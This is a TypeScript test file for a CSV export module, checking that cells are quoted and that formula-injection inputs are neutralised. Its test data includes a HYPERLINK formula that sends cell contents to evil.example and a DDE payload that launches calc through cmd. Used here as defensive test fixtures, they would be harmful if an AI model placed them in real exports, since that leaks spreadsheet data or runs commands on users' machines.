import { expect, test } from 'vitest';
import { csvCell, csvHeader, csvLine } from './csv.ts';

test.each([
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['+1+1', `"'+1+1"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['  =1', `"'  =1"`],
  ['\ufeff=1', `"'\ufeff=1"`],
  ['\uff1d1', `"'\uff1d1"`],
  ["|cmd'/C calc'!A0", `"'|cmd'/C calc'!A0"`],
  ['a,b', '"a,b"'],
  ['say "x"', '"say ""x"""'],
  ['line\nline', '"line\nline"'],
  [' padded ', '" padded "'],
  ['plain=text', 'plain=text'],
  ['', ''],
])('writes %j as a cell that no spreadsheet carries out', (value, cell) => {
  expect(csvCell(value)).toBe(cell);
});

test('a number is a number, and what is absent is empty', () => {
  expect([csvCell(-5), csvCell(undefined), csvCell(null)]).toEqual(['-5', '', '']);
});

test('a line has as many cells as the header, with what references stand for where it is told', () => {
  const event = {
    v: 1,
    id: '019a9c5a-7d40-7c3e-9e1f-4b5d2a6c8e10',
    number: 3,
    at: '2026-11-20T09:00:00.000Z',
    type: 'key.created',
    outcome: 'success',
    organization_id: null,
    actor: { type: 'operator' },
    resource: null,
    client: { ip: 'a'.repeat(43), user_agent: 'b'.repeat(43) },
  } as const;
  const line = csvLine({ index: 7, event, reveal: (reference) => (reference.startsWith('a') ? '203.0.113.7' : undefined) });
  expect(line).toBe(
    `7,3,2026-11-20T09:00:00.000Z,key.created,success,,operator,,,,,,203.0.113.7,${'b'.repeat(43)},,019a9c5a-7d40-7c3e-9e1f-4b5d2a6c8e10\r\n`,
  );
  expect(line.split(',').length).toBe(csvHeader.split(',').length);
});
